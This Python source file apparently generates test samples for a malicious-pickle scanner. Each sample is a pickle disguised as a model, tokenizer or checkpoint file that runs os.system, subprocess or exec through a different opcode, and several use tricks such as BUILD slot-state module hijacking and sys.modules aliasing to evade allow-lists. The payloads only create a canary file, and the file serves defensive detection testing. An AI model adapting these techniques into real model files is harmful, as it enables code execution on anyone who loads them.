"""Malicious pickles that differ in protocol and in the opcode that makes the call.

Covers REDUCE, INST, OBJ, NEWOBJ(_EX), BUILD via ``__setstate__``, extension codes, persistent ids,
and writes into module state (BUILD slot state, ``sys.modules``, ``os.environ``). Every payload only
creates its canary file.
"""

from __future__ import annotations

import pickle
import struct

from ._payload import EXEC, OS_SYSTEM, os_system, program
from ._pickle_asm import Asm, Build, Call, Global, NewObj, Raw
from ._registry import Canary, sample

# -- protocols -------------------------------------------------------------------------------------


@sample(
    "proto0_os_system",
    technique="protocol:0",
    container="pickle",
    filename="model_proto0.pkl",
    description="Protocol 0 text pickle: GLOBAL os.system, MARK/UNICODE/TUPLE, REDUCE.",
)
def _proto0(c: Canary) -> bytes:
    return os_system(c, 0)


@sample(
    "proto1_subprocess_call",
    technique="protocol:1",
    container="pickle",
    filename="classifier_p1.pickle",
    description="Protocol 1 binary pickle calling subprocess.call with an argv list (no shell).",
)
def _proto1(c: Canary) -> bytes:
    return program(1, Call(Global("subprocess", "call"), (c.argv,)))


@sample(
    "proto3_builtins_exec",
    technique="protocol:3",
    container="pickle",
    filename="model_p3.pkl",
    description="Protocol 3 pickle: builtins.exec on a BINUNICODE source string.",
)
def _proto3(c: Canary) -> bytes:
    return program(3, Call(EXEC, (c.py,)))


@sample(
    "proto4_posix_system_framed",
    technique="protocol:4",
    container="pickle",
    filename="model_p4.pkl",
    description="Protocol 4 pickle in one FRAME: STACK_GLOBAL posix.system (the real module behind os).",
)
def _proto4(c: Canary) -> bytes:
    return program(4, Call(Global("posix", "system"), (c.sh,)), frames=True)


@sample(
    "proto5_bytearray8_exec",
    technique="protocol:5",
    container="pickle",
    filename="model_p5.pkl",
    description="Protocol 5 pickle: the source reaches builtins.exec as bytes(BYTEARRAY8 ...).",
)
def _proto5(c: Canary) -> bytes:
    code = c.py.encode()
    buffer = Raw(pickle.BYTEARRAY8 + struct.pack("<Q", len(code)) + code)
    return program(5, Call(EXEC, (Call(Global("builtins", "bytes"), (buffer,)),)), frames=True)


@sample(
    "popen_argv_list",
    technique="protocol:4",
    container="pickle",
    filename="tokenizer.pkl",
    description="subprocess.Popen with an argv list: the child process creates the canary asynchronously.",
)
def _popen(c: Canary) -> bytes:
    return program(4, Call(Global("subprocess", "Popen"), (c.argv,)))


# -- opcodes that call -----------------------------------------------------------------------------


@sample(
    "inst_os_system",
    technique="opcode:INST",
    container="pickle",
    filename="legacy_model.pkl",
    description="Protocol 0 INST opcode: MARK, STRING argument, INST os system (no REDUCE at all).",
)
def _inst(c: Canary) -> bytes:
    return Asm(0).mark().str_(c.sh, "string").inst("os", "system").program()


@sample(
    "obj_pop_invisible",
    technique="opcode:OBJ",
    container="pickle",
    filename="model.pkl",
    advisory="GHSA-mxhj-88fx-4pcv",
    description="OBJ calls os.system and POP discards the result; the pickle then returns None. "
    "Fickling < 0.1.8 dropped OBJ calls whose result was popped from its AST.",
)
def _obj(c: Canary) -> bytes:
    a = Asm(4).mark().push(OS_SYSTEM).str_(c.sh).obj().pop()
    return a.push(None).program()


@sample(
    "newobj_partial_call",
    technique="opcode:NEWOBJ",
    container="pickle",
    filename="scheduler.pkl",
    description="NEWOBJ builds functools.partial(os.system, cmd) via partial.__new__; REDUCE with () "
    "calls it.",
)
def _newobj(c: Canary) -> bytes:
    partial = NewObj(Global("functools", "partial"), (OS_SYSTEM, c.sh))
    return program(2, Call(partial, ()))


@sample(
    "newobj_ex_partial_open",
    technique="opcode:NEWOBJ_EX",
    container="pickle",
    filename="optimizer_state.pkl",
    description="NEWOBJ_EX passes keyword arguments to partial.__new__: partial(open, file=..., mode='w')(), "
    "which creates the canary file.",
)
def _newobj_ex(c: Canary) -> bytes:
    partial = NewObj(
        Global("functools", "partial"), (Global("builtins", "open"),), {"file": c.file, "mode": "w"}
    )
    return program(4, Call(partial, ()))


@sample(
    "build_setstate_injection",
    technique="opcode:BUILD-__setstate__",
    container="pickle",
    filename="config.pkl",
    description="No REDUCE: a first BUILD puts __setstate__=os.system into a SimpleNamespace's __dict__, "
    "a second BUILD then calls inst.__setstate__(cmd).",
)
def _build_setstate(c: Canary) -> bytes:
    ns = Call(Global("types", "SimpleNamespace"), ())
    return program(2, Build(Build(ns, {"__setstate__": OS_SYSTEM}), c.sh))


@sample(
    "build_slotstate_module_hijack",
    technique="module-write:BUILD-slotstate",
    container="pickle",
    filename="pytorch_model.pkl",
    description="BUILD with slot state on the collections module (reached as typing.collections) sets "
    "collections.OrderedDict = os.system; the allow-listed GLOBAL collections.OrderedDict then runs it.",
)
def _build_slots(c: Canary) -> bytes:
    a = Asm(4).push(Build(Global("typing", "collections"), (None, {"OrderedDict": OS_SYSTEM}))).pop()
    return a.push(Call(Global("collections", "OrderedDict"), (c.sh,))).program()


@sample(
    "sys_modules_setitem_alias",
    technique="module-write:sys.modules",
    container="pickle",
    filename="vocab.pkl",
    description="SETITEM sys.modules['safetensors_compat'] = os (via posixpath.os); GLOBAL "
    "safetensors_compat.system then resolves to os.system through the import cache.",
)
def _sys_modules(c: Canary) -> bytes:
    a = Asm(4).push(Global("sys", "modules")).str_("safetensors_compat").push(Global("posixpath", "os"))
    a.setitem().pop()
    return a.push(Call(Global("safetensors_compat", "system"), (c.sh,))).program()


@sample(
    "os_environ_setitem_argument",
    technique="module-write:os.environ",
    container="pickle",
    filename="embeddings.pkl",
    description="SETITEM into os.environ smuggles the target path; os.system('touch \"$MLARMOR_CKPT\"') "
    "then reads it from the environment.",
)
def _os_environ(c: Canary) -> bytes:
    a = Asm(4).push(Global("os", "environ")).str_("MLARMOR_CKPT").str_(c.file).setitem().pop()
    return a.push(Call(OS_SYSTEM, ('touch "$MLARMOR_CKPT"',))).program()


def _ext(code: int, module: str, name: str, arg: str) -> bytes:
    a = Asm(2).push(Call(Global("copyreg", "add_extension"), (module, name, code))).pop()
    return a.ext(code).push_tuple((arg,)).reduce().program()


@sample(
    "ext1_copyreg_extension",
    technique="opcode:EXT1",
    container="pickle",
    filename="model_ext1.pkl",
    description="copyreg.add_extension('os', 'system', 0xE1) registers a code; EXT1 0xE1 then "
    "yields os.system.",
)
def _ext1(c: Canary) -> bytes:
    return _ext(0xE1, "os", "system", c.sh)


@sample(
    "ext2_copyreg_extension",
    technique="opcode:EXT2",
    container="pickle",
    filename="model_ext2.pkl",
    description="EXT2 extension code 0x1234 registered for subprocess.getoutput.",
)
def _ext2(c: Canary) -> bytes:
    return _ext(0x1234, "subprocess", "getoutput", c.sh)


@sample(
    "ext4_copyreg_extension",
    technique="opcode:EXT4",
    container="pickle",
    filename="model_ext4.pkl",
    description="EXT4 extension code 0x12345678 registered for builtins.exec.",
)
def _ext4(c: Canary) -> bytes:
    return _ext(0x12345678, "builtins", "exec", c.py)


@sample(
    "binpersid_payload_in_pid",
    technique="opcode:BINPERSID",
    container="pickle",
    filename="checkpoint.pkl",
    description="The persistent id tuple is computed by os.system before BINPERSID is reached; the "
    "loader then fails on the missing persistent_load, after the payload ran.",
)
def _binpersid(c: Canary) -> bytes:
    return Asm(2).push(("storage", Call(OS_SYSTEM, (c.sh,)), "cpu")).binpersid().program()


@sample(
    "persid_after_payload",
    technique="opcode:PERSID",
    container="pickle",
    filename="model_legacy.pth",
    loader="torch",
    requires=("torch",),
    description="Raw protocol-0 pickle named .pth: the payload runs, then a text PERSID that "
    "torch.load's legacy path cannot resolve aborts the load.",
)
def _persid(c: Canary) -> bytes:
    return Asm(0).push(Call(OS_SYSTEM, (c.sh,))).pop().persid("0").program()
